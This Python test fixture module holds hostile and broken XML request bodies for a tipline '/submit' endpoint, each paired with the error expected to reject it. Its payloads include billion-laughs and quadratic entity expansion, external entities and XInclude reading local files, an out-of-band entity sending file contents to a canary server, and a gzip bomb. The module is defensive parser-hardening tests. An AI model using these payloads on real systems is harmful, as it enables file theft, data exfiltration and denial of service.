"""Hostile and broken bodies of `/submit`: name, bytes, content type, who refuses.

`{file}` and `{http}` in a body stand for a canary file and a canary server; no document
may make anybody look at them. `HARMLESS` holds what looks hostile and means nothing.
"""

import gzip
import zlib
from dataclasses import dataclass

from tests.intake.samples import REPORTER, report, summary
from tipline.intake.errors import (
    MalformedXmlError,
    ValidationFailedError,
    WireRefusedError,
    WrongRootError,
)

XML = "text/xml; charset=utf-8"
GOOD = report().decode()
INFO = '<report xmlns:xi="http://www.w3.org/2001/XInclude">' + summary() + REPORTER


@dataclass(frozen=True)
class Attack:
    name: str
    body: bytes
    refused_by: type[WireRefusedError] = MalformedXmlError
    content_type: str = XML


def _doctype(declared: str, used: str = "") -> bytes:
    return f"<!DOCTYPE report [{declared}]>{_info(used)}".encode()


def _info(value: str) -> str:
    return GOOD.replace(
        "</report>", f"<additionalInfo>{value}</additionalInfo></report>"
    )


def _malformed(**bodies: bytes | str) -> list[Attack]:
    return [
        Attack(name.replace("_", " "), body.encode() if isinstance(body, str) else body)
        for name, body in bodies.items()
    ]


def _invalid(**bodies: bytes | str) -> list[Attack]:
    return [
        Attack(one.name, one.body, ValidationFailedError)
        for one in _malformed(**bodies)
    ]


def _laughs(levels: int, times: int) -> str:
    steps = [f'<!ENTITY a{n} "{f"&a{n - 1};" * times}">' for n in range(1, levels)]
    return '<!ENTITY a0 "ha">' + "".join(steps)


ENTITIES = _malformed(
    billion_laughs=_doctype(_laughs(10, 10), "&a9;"),
    billion_laughs_wide=_doctype(_laughs(4, 400), "&a3;"),
    billion_laughs_in_an_attribute=f"<!DOCTYPE report [{_laughs(9, 10)}]>"
    + GOOD.replace("<email>", '<email type="&a8;">'),
    quadratic_blow_up=_doctype(f'<!ENTITY b "{"x" * 50_000}">', "&b;" * 5_000),
    recursive_entity=_doctype('<!ENTITY a "&b;"><!ENTITY b "&a;">', "&a;"),
    parameter_entity=_doctype("<!ENTITY % p \"<!ENTITY q 'x'>\"> %p;", "&q;"),
    parameter_entity_from_outside=_doctype('<!ENTITY % p SYSTEM "{http}"> %p;'),
    entity_of_a_file=_doctype('<!ENTITY f SYSTEM "file://{file}">', "&f;"),
    entity_of_a_server=_doctype('<!ENTITY f SYSTEM "{http}">', "&f;"),
    entity_of_an_ftp_server=_doctype('<!ENTITY f SYSTEM "ftp://127.0.0.1/x">', "&f;"),
    entity_of_a_jar=_doctype('<!ENTITY f SYSTEM "jar:file://{file}!/x">', "&f;"),
    entity_of_a_share=_doctype('<!ENTITY f SYSTEM "\\\\127.0.0.1\\x">', "&f;"),
    entity_that_is_never_used=_doctype('<!ENTITY f "x">'),
    entity_nobody_declared=_info("&nobody;"),
    entity_sent_out_of_band=_doctype(
        '<!ENTITY % f SYSTEM "file://{file}">'
        "<!ENTITY % o \"<!ENTITY &#x25; s SYSTEM '{http}?%f;'>\"> %o; %s;"
    ),
    entity_in_an_error=_doctype('<!ENTITY % f SYSTEM "file://{file}/%none;"> %f;'),
    external_doctype='<!DOCTYPE report SYSTEM "{http}/report.dtd">' + GOOD,
    public_doctype='<!DOCTYPE report PUBLIC "-//X//Y" "{http}/report.dtd">' + GOOD,
    doctype_without_anything="<!DOCTYPE report>" + GOOD,
    doctype_in_lower_case="<!doctype report>" + GOOD,
    default_attributes=_doctype('<!ATTLIST email type CDATA "Home">'),
    standalone_doctype='<?xml version="1.0" standalone="no"?><!DOCTYPE report>' + GOOD,
    unparsed_entity=_doctype(
        '<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "{http}" NDATA n>'
    ),
)

LIMITS = _malformed(
    body_of_3_MB=_info("x" * 3_000_000),
    white_space_of_2_MB=b" " * 2_000_000,
    sixty_five_levels="<report>" + "<victim>" * 64 + "</victim>" * 64 + "</report>",
    two_hundred_and_fifty_seven_levels="<report>" * 257 + "</report>" * 257,
    a_hundred_thousand_levels="<a>" * 100_000,
    two_hundred_thousand_siblings=f"<report>{'<victim/>' * 200_000}</report>",
    a_hundred_thousand_attributes="<report {}/>".format(
        " ".join(f'a{n}=""' for n in range(100_000))
    ),
    sixty_five_attributes="<report {}/>".format(
        " ".join(f'type{n}=""' for n in range(65))
    ),
    a_hundred_thousand_namespaces="<report {}/>".format(
        " ".join(f'xmlns:n{n}="u{n}"' for n in range(60_000))
    ),
    seventeen_namespaces="<report {}/>".format(
        " ".join(f'xmlns:n{n}="u{n}"' for n in range(17))
    ),
    namespaces_one_by_one=_info(
        "".join(f'<x xmlns:n{n}="u{n}"/>' for n in range(20_000))
    ),
    ten_thousand_invented_names=_info("".join(f"<n{n}/>" for n in range(10_000))),
    name_of_a_million_characters=f"<report><{'n' * 1_000_000}/></report>",
    name_of_a_hundred_and_one_characters=f"<report><{'n' * 101}/></report>",
    attribute_of_a_million_characters=f'<report a="{"v" * 1_000_000}"/>',
    comment_of_a_million_characters=_info(f"<!--{'c' * 1_000_000}-->"),
    instruction_of_a_million_characters=f"<report><?p {'c' * 1_000_000}?></report>",
    a_hundred_thousand_comments=f"<report>{'<!---->' * 100_000}</report>",
)

SPLIT_VALUES = _malformed(
    comment_in_a_value=_info("12<!-- -->34"),
    comment_before_a_value=_info("<!-- -->34"),
    comment_after_a_value=_info("12<!-- -->"),
    instruction_in_a_value=_info("12<?p q?>34"),
    comment_in_an_address=GOOD.replace("abuse@", "ab<!-- x -->use@"),
    comment_in_the_incident_type=GOOD.replace("Tourism", "Tour<!---->ism"),
)

OTHER_ENCODINGS = _malformed(
    utf_16_little_endian=GOOD.encode("utf-16"),
    utf_16_without_mark=GOOD.encode("utf-16-le"),
    utf_16_big_endian_without_mark=GOOD.encode("utf-16-be"),
    utf_16_with_doctype=("<!DOCTYPE report>" + GOOD).encode("utf-16"),
    utf_32=GOOD.encode("utf-32"),
    utf_32_big_endian=GOOD.encode("utf-32-be"),
    utf_7='<?xml version="1.0" encoding="UTF-7"?>' + GOOD,
    ebcdic=GOOD.encode("cp037"),
    declared_latin_1='<?xml version="1.0" encoding="ISO-8859-1"?>' + GOOD,
    declared_utf_16_but_utf_8='<?xml version="1.0" encoding="UTF-16"?>' + GOOD,
    declared_nonsense="<?xml version='1.0' encoding='x-nobody'?>" + GOOD,
    latin_1_bytes=_info("Bj\u00f6rn").encode("latin-1"),
    overlong_slash=_info("@").encode().replace(b"@</add", b"\xc0\xaf</add"),
    overlong_null=_info("@").encode().replace(b"@</add", b"\xc0\x80</add"),
    encoded_surrogate=_info("@").encode().replace(b"@</add", b"\xed\xa0\x80</add"),
    cut_off_sequence=GOOD.encode() + b"\xe2\x82",
    two_marks=b"\xef\xbb\xbf\xef\xbb\xbf" + GOOD.encode(),
    mark_after_the_declaration=b'<?xml version="1.0"?>\xef\xbb\xbf' + GOOD.encode(),
    null_byte=_info("\x00"),
    control_character=_info("\x08"),
    control_character_by_number=_info("&#8;"),
    null_by_number=_info("&#0;"),
    surrogate_by_number=_info("&#xD800;"),
    not_a_character=_info("\uffff"),
    number_beyond_all_characters=_info("&#x110000;"),
    xml_1_1='<?xml version="1.1"?>' + GOOD,
    gzip=gzip.compress(GOOD.encode()),
    gzip_bomb=gzip.compress(b" " * 50_000_000),
    deflate=zlib.compress(GOOD.encode()),
)
OTHER_CHARSETS = [
    Attack("charset latin-1", GOOD.encode(), content_type="text/xml; charset=latin-1"),
    Attack("charset utf-16", GOOD.encode(), content_type='text/xml;charset="UTF-16"'),
    Attack("charset utf-7", GOOD.encode(), content_type="text/plain; charset=utf-7"),
]

BROKEN = _malformed(
    empty=b"",
    only_a_mark=b"\xef\xbb\xbf",
    json='{"report": {}}',
    form="id=1&file=x",
    html="<!DOCTYPE html><p>",
    cut_off=GOOD[:-20],
    cut_off_in_a_tag=GOOD[: GOOD.index("incidentType") + 4],
    two_roots=GOOD + GOOD,
    text_after_the_root=GOOD + "x",
    text_before_the_root="x" + GOOD,
    space_before_the_declaration=' <?xml version="1.0"?>' + GOOD,
    two_declarations='<?xml version="1.0"?><?xml version="1.0"?>' + GOOD,
    doubled_attribute="<report a='1' a='2'/>",
    doubled_attribute_by_namespace=(
        '<report xmlns:x="u" xmlns:y="u" x:a="1" y:a="2"></report>'
    ),
    prefix_nobody_declared="<x:report/>",
    prefix_xml_misused='<report xmlns:xml="u"/>',
    crossed_tags="<report><a><b></a></b></report>",
    open_cdata=_info("<![CDATA[x"),
    nested_cdata_end=_info("]]>"),
    raw_ampersand=_info("a & b"),
    raw_less_than=_info("a < b"),
    unquoted_attribute="<report a=1/>",
    declaration_in_a_value=_info('<?xml version="1.0"?>'),
)

WRONG_ROOTS = [
    Attack(name, body.encode(), WrongRootError)
    for name, body in {
        "file details to submit": "<fileDetails/>",
        "an answer": "<reportResponse/>",
        "a soap envelope": "<e:Envelope xmlns:e='urn:e'/>",
        "a default namespace": GOOD.replace("<report>", '<report xmlns="urn:x">'),
        "a stylesheet": '<xsl:stylesheet xmlns:xsl="urn:xsl" version="1.0"/>',
        "another case": "<Report/>",
    }.items()
]

NOT_VALID = _invalid(
    xinclude_of_text=INFO
    + '<additionalInfo><xi:include parse="text" href="file://{file}"/></additionalInfo>'
    "</report>",
    xinclude_of_xml=INFO + '<xi:include href="{http}"/></report>',
    xinclude_as_a_mark=GOOD.replace(
        "<incidentDateTime>",
        '<reportAnnotations><i:include xmlns:i="http://www.w3.org/2001/XInclude"'
        ' href="{http}"/></reportAnnotations><incidentDateTime>',
    ),
    type_substitution=GOOD.replace(
        "<reportingPerson>",
        '<reportingPerson xmlns:x="http://www.w3.org/2001/XMLSchema-instance"'
        ' x:type="victim">',
    ),
    nil_instead_of_content=GOOD.replace(
        "<reportingPerson>",
        '<reportingPerson xmlns:x="http://www.w3.org/2001/XMLSchema-instance"'
        ' x:nil="true">',
    ),
    attribute_of_a_namespace=GOOD.replace("<report>", '<report xmlns:a="u" a:b="c">'),
    xml_base=GOOD.replace("<report>", '<report xml:base="{http}">'),
    xml_id_twice=GOOD.replace("<report>", '<report xml:id="a">'),
    script_instead_of_a_value=_info("<script>x</script>"),
    number_too_large=GOOD.replace(
        "</report>",
        f"<victim><victimPerson><age>{'9' * 100_000}</age></victimPerson></victim>"
        "</report>",
    ),
    age_with_an_exponent=GOOD.replace(
        "</report>",
        "<victim><victimPerson><age>1e999</age></victimPerson></victim></report>",
    ),
    prior_report_of_a_million_digits=GOOD.replace(
        "</report>",
        "<personOrUserReported><priorCTReports>"
        f"{'9' * 1_000_000}</priorCTReports></personOrUserReported></report>",
    ),
    coordinate_that_is_no_number=GOOD.replace(
        "<reporter>",
        "<internetDetails><cellPhoneIncident><latitude>NaN</latitude>"
        "</cellPhoneIncident></internetDetails><reporter>",
    ),
    endless_coordinate=GOOD.replace(
        "<reporter>",
        "<internetDetails><cellPhoneIncident><longitude>-INF</longitude>"
        "</cellPhoneIncident></internetDetails><reporter>",
    ),
    year_zero=GOOD.replace("2026-10", "0000-10"),
    year_before_our_era=GOOD.replace("2026-10", "-0044-03"),
    year_ten_thousand=GOOD.replace("2026-10", "10000-10"),
    year_one_east_of_greenwich=GOOD.replace(
        "2026-10-15T08:00:00Z", "0001-01-01T00:00:00+14:00"
    ),
    offset_of_fifteen_hours=GOOD.replace("08:00:00Z", "08:00:00+15:00"),
    leap_second=GOOD.replace("08:00:00Z", "23:59:60Z"),
    thirtieth_of_february=GOOD.replace("2026-10-15", "2026-02-30"),
    url_with_a_line_break=GOOD.replace(
        "<reporter>",
        "<internetDetails><webPageIncident><url>http://example.com/&#10;Host: x</url>"
        "</webPageIncident></internetDetails><reporter>",
    ),
    forty_thousand_elements_against_the_schema=GOOD.replace(
        "</report>", f"{'<victim/>' * 40_000}</report>"
    ),
    forty_thousand_unknown_marks=GOOD.replace(
        "<incidentDateTime>",
        f"<reportAnnotations>{'<novel/>' * 40_000}</reportAnnotations>"
        "<incidentDateTime>",
    ),
    forty_thousand_wrong_elements=GOOD.replace(
        "</report>",
        f"<victim><victimPerson/>{'<profileUrl>x y</profileUrl>' * 40_000}</victim>"
        "</report>",
    ),
)

ATTACKS = [
    *ENTITIES,
    *LIMITS,
    *SPLIT_VALUES,
    *OTHER_ENCODINGS,
    *OTHER_CHARSETS,
    *BROKEN,
    *WRONG_ROOTS,
    *NOT_VALID,
]

HARMLESS = {
    "a stylesheet instruction": '<?xml-stylesheet type="text/xsl" href="{http}"?>'
    + GOOD,
    "a schema somewhere else": GOOD.replace(
        "<report>",
        '<report xmlns:x="http://www.w3.org/2001/XMLSchema-instance"'
        ' x:noNamespaceSchemaLocation="{http}" x:schemaLocation="urn:x file://{file}">',
    ),
    "comments between elements": GOOD.replace("<reporter>", "<!-- x --><reporter>"),
    "an instruction between elements": GOOD.replace("<reporter>", "<?x y?><reporter>"),
    "comments around the root": f"<!-- a -->{GOOD}<!-- b -->",
    "a value in a hundred thousand CDATA pieces": _info("<![CDATA[x]]>" * 100_000),
    "a doctype in CDATA": _info('<![CDATA[<!DOCTYPE x SYSTEM "{http}">]]>'),
    "markup as text": _info("&lt;!ENTITY x SYSTEM 'file://{file}'&gt;"),
    "text turned around": _info("\u202eabc\u2066"),
    "text not composed": _info("Bjo\u0308rn"),
    "a text of two megabytes": _info("x" * 2_000_000),
    "a mark in front": "\ufeff" + GOOD,
    "a greedy pattern": _info("a" * 100_000 + "!"),
    "an offset of fourteen hours": GOOD.replace("08:00:00Z", "08:00:00-14:00"),
}
